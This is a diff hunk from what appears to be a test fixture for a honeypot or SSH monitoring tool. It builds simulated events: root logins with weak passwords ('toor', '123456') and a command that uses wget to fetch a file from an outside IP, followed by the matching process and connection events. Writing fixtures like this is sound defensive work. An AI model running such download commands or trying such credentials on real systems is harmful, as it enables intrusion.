@@ -69,7 +69,7 @@ def events():
         about(12, "login", "skep.login.failed", who=SSH, method="password", username="root", password="toor"),
         about(13, "login", "skep.login.success", who=SSH, method="password", username="root", password="123456"),
         about(10.5, "machine", "skep.machine.running", session=None, message="running"),
-        about(14, "command", "skep.command.input", who=SSH, input="wget http://203.0.113.80/x " + EVIL, **WHO),
+        about(14, "command", "skep.command.input", who=SSH, input="wget http://203.0.113.80/x\t" + EVIL, **WHO),
         about(14.1, "process", "skep.process.exec", who=SSH, path="/usr/bin/wget", cwd="/tmp", result=0, argc=3,
               argv=["wget", "http://203.0.113.80/x", EVIL], **WHO),
         about(14.2, "connection", "skep.connection.connect", who=WGET, **WHO),
